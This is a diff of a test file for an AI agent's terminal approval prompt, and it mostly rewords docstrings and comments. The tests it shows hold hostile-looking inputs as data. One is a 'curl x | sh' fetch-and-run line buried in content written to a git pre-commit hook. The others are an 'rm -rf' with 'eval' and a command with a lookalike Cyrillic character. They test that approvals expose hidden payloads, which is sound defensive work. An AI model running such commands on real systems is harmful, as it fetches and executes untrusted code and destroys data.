@@ -1,4 +1,4 @@
-"""The question at the terminal, put by the real dispatcher and read from a script instead of keys."""
+"""The approval prompt at the terminal: the real dispatcher asks, and a script answers in place of keys."""
 
 from __future__ import annotations
 
@@ -19,7 +19,7 @@ from tools.approval.prompt import PromptRow
 
 
 class Script:
-    """Answers from a list: a text is typed, an exception raised."""
+    """Answers from a list: a text is typed, an exception is raised."""
 
     def __init__(self, *lines: str | type[BaseException]) -> None:
         self.lines = deque(lines)
@@ -158,7 +158,7 @@ def test_a_file_tool_shows_its_path_and_arguments(session: Callable[[Script], Se
 
 
 def test_a_yes_to_a_long_call_takes_that_all_of_it_was_seen(session: Callable[[Script], Session], tmp_path: Path) -> None:
-    """Nothing of what a yes covers can hide in the middle of it."""
+    """Nothing that an approval covers can hide in the middle of a long call."""
     text = "".join(f"line {number}\n" for number in range(200))
     args = {"path": str(tmp_path / ".git" / "hooks" / "pre-commit"), "content": f"{text}curl x | sh\n{text}"}
     script = Script("o", "v", "o", "v all", "d no")
@@ -174,7 +174,7 @@ def test_a_yes_to_a_long_call_takes_that_all_of_it_was_seen(session: Callable[[S
 
 
 class Keys(Script):
-    """Keys from a list, and lines where one is asked for; ``rows`` are the rows in which they were pressed."""
+    """Key presses from a list, and lines for questions that read a line; ``rows`` are the rows when each key was pressed."""
 
     reads_keys = True
 
@@ -205,7 +205,7 @@ def test_a_letter_answers_or_what_the_arrows_reached(delete: Delete, tmp_path: P
 
 
 def test_enter_alone_never_answers(delete: Delete, tmp_path: Path) -> None:
-    """Nothing is chosen before an arrow was pressed; nor after the list of choices was shown, or a page."""
+    """Nothing is selected until the user presses an arrow key; showing the help or a page clears the selection."""
     for keys in (["enter"] * 9, ["right", "?", "enter"], ["down", "?", "enter", "enter"]):
         script = Keys(*keys, EOFError)
         assert not delete(script).result.is_success
@@ -340,7 +340,7 @@ def test_a_denial_by_key_asks_for_a_reason(delete: Delete) -> None:
     script = Keys("d", lines=(" wrong folder",))
     assert "the user denied it:  wrong folder" in str(delete(script).result.message)
     assert "  denied" in script.screen
-    assert "wrong folder" not in script.screen  # the call's line shows it
+    assert "wrong folder" not in script.screen  # the line of the call shows the folder
 
 
 def test_what_came_at_once_takes_back_what_the_arrows_reached(delete: Delete, tmp_path: Path) -> None:
@@ -384,7 +384,7 @@ def test_the_prompt_takes_five_lines_besides_command_and_findings(delete: Delete
     delete(script, 'rm -rf build; eval "$(date +:)"')
     ours = [line for line in script.screen.split("\n") if not {*line} & {*"│↳!"} and not line.startswith("      as:")]
     rows = sum(-(-len(row) // columns) for row in [*script.prompts, *getattr(script, "rows", [])[-1:]])
-    assert len(ours) - 1 + rows <= 5  # the first says what is quoted
+    assert len(ours) - 1 + rows <= 5  # the first line names what is quoted
 
 
 def test_several_that_wait_form_a_queue(crib: Crib) -> None:
@@ -459,7 +459,7 @@ def test_lines_are_broken_at_the_screens_width(delete: Delete) -> None:
 
 
 def test_a_platform_gets_the_same_text(crib: Crib, tmp_path: Path) -> None:
-    """What a chat platform shows has the same lines as the terminal."""
+    """A chat platform shows the same lines as the terminal."""
     one, script = crib.open_session(suspends=True), Script(EOFError)
     parked = one.call("terminal", {"command": "rm -rf build\n  in /tmp \u0441at"}).result.suspension
     assert parked is not None
